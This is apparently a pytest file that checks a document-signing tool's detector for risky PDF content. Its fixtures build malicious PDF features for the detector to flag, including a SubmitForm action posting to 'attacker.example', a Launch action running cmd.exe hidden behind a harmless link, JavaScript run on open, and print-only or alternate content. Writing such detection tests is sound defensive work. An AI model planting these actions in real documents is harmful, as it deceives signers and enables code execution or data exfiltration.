"""A paper that can act, or look different elsewhere, does not enter signing."""

from collections.abc import Callable
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream

from signing.making.active_content import active_content

Spoil = Callable[[pikepdf.Pdf], None]


def _opened(spoil: Spoil) -> tuple[str, ...]:
    with pikepdf.new() as made:
        made.add_blank_page()
        spoil(made)
        out = BytesIO()
        made.save(out)
    with pikepdf.open(out) as pdf:
        return active_content(pdf)


def _resources(pdf: pikepdf.Pdf, **entries: object) -> None:
    pdf.pages[0].Resources = Dictionary(**entries)


def _font(**more: object) -> Dictionary:
    return Dictionary(
        Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name("/ABCDEF+TimesNewRoman"), **more
    )


def _font_of_the_viewer(pdf: pikepdf.Pdf) -> None:
    _resources(pdf, Font=Dictionary(F1=pdf.make_indirect(_font())))


def _font_described_only(pdf: pikepdf.Pdf) -> None:
    descriptor = pdf.make_indirect(Dictionary(Type=Name.FontDescriptor))
    _resources(pdf, Font=Dictionary(F1=_font(FontDescriptor=descriptor)))


def _composite_font_of_the_viewer(pdf: pikepdf.Pdf) -> None:
    kid = Dictionary(Type=Name.Font, Subtype=Name.CIDFontType2, BaseFont=Name("/Arial"))
    whole = Dictionary(Type=Name.Font, Subtype=Name.Type0, DescendantFonts=Array([kid]))
    _resources(pdf, Font=Dictionary(F1=pdf.make_indirect(whole)))


def _font_inside_a_form(pdf: pikepdf.Pdf) -> None:
    form = Stream(pdf, b"BT /F1 9 Tf (0) Tj ET")
    form.Subtype, form.Resources = Name.Form, Dictionary(Font=Dictionary(F1=_font()))
    _resources(pdf, XObject=Dictionary(X=form))


def _content_in_another_file(pdf: pikepdf.Pdf) -> None:
    image = Stream(pdf, b"")
    image.Subtype, image.F = Name.Image, "//attacker/seal.png"
    _resources(pdf, XObject=Dictionary(Im=image))


def _page_of_another_document(pdf: pikepdf.Pdf) -> None:
    form = Stream(pdf, b"")
    form.Subtype, form.Ref = Name.Form, Dictionary(F="other.pdf", Page=0)
    _resources(pdf, XObject=Dictionary(X=form))


def _another_picture_for_the_printer(pdf: pikepdf.Pdf) -> None:
    image, other = Stream(pdf, b"\0"), Stream(pdf, b"\1")
    image.Alternates = Array([Dictionary(Image=other, DefaultForPrinting=True)])
    _resources(pdf, XObject=Dictionary(Im=image))


def _note_for_the_printer_only(pdf: pikepdf.Pdf) -> None:
    note = Dictionary(Subtype=Name.Stamp, Rect=Array([0, 0, 99, 99]), F=4 | 32)
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])


def _script_when_opened(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _form_that_sends(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.SubmitForm, F="https://attacker.example/")
    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Subtype=Name.Link, A=action))])


def _program_after_a_harmless_link(pdf: pikepdf.Pdf) -> None:
    launch = pdf.make_indirect(Dictionary(S=Name.Launch, F="cmd.exe"))
    action = Dictionary(S=Name.URI, URI="https://dichvucong.gov.vn/", Next=Array([launch]))
    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Subtype=Name.Link, A=action))])


def _layer(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OCProperties = Dictionary(OCGs=Array())


@pytest.mark.parametrize(
    ("spoil", "kind"),
    [
        (_font_of_the_viewer, "font_missing"),
        (_font_described_only, "font_missing"),
        (_composite_font_of_the_viewer, "font_missing"),
        (_font_inside_a_form, "font_missing"),
        (_content_in_another_file, "external_content"),
        (_page_of_another_document, "external_content"),
        (_another_picture_for_the_printer, "alternate_image"),
        (_note_for_the_printer_only, "print_only"),
        (_script_when_opened, "javascript"),
        (_form_that_sends, "submit_form"),
        (_program_after_a_harmless_link, "launch"),
        (_layer, "optional_content"),
    ],
)
def test_it_is_found_wherever_it_lies(spoil: Spoil, kind: str) -> None:
    assert kind in _opened(spoil)


def _embedded_font(pdf: pikepdf.Pdf) -> None:
    descriptor = pdf.make_indirect(Dictionary(FontFile2=Stream(pdf, b"glyphs")))
    _resources(pdf, Font=Dictionary(F1=_font(FontDescriptor=descriptor)))


def _font_that_every_viewer_has(pdf: pikepdf.Pdf) -> None:
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    _resources(pdf, Font=Dictionary(F1=font))


def _font_of_the_form_only(pdf: pikepdf.Pdf) -> None:
    unused = Dictionary(Font=Dictionary(Arial=pdf.make_indirect(_font())))
    pdf.Root.AcroForm = Dictionary(Fields=Array(), DR=unused)


def _font_of_the_form_apart(pdf: pikepdf.Pdf) -> None:
    unused = Dictionary(Font=Dictionary(Arial=pdf.make_indirect(_font())))
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array(), DR=pdf.make_indirect(unused)))


def _plain_link(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.URI, URI="https://dichvucong.gov.vn/")
    link = Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), F=4, A=action)
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])


@pytest.mark.parametrize(
    "harmless",
    [
        _embedded_font,
        _font_that_every_viewer_has,
        _font_of_the_form_only,
        _font_of_the_form_apart,
        _plain_link,
    ],
)
def test_a_paper_that_only_shows_passes(harmless: Spoil) -> None:
    assert _opened(harmless) == ()


def test_objects_that_are_mere_values_are_no_damage() -> None:
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Rotate 6 0 R/Contents 4 0 R>>",
        b"<</Length 5 0 R>>stream\nq Q\nendstream",
        *(b"3", b"0", b"null", b"true", b"(words)", b"/Name", b"1.5"),
    )
    pdf, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(pdf))
        pdf += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    pdf += b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n" % (size, rows)
    pdf += b"<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, pdf.index(b"xref"))
    with pikepdf.open(BytesIO(pdf)) as opened:
        assert {int, bool} <= {type(thing) for thing in opened.objects}
        assert active_content(opened) == ()
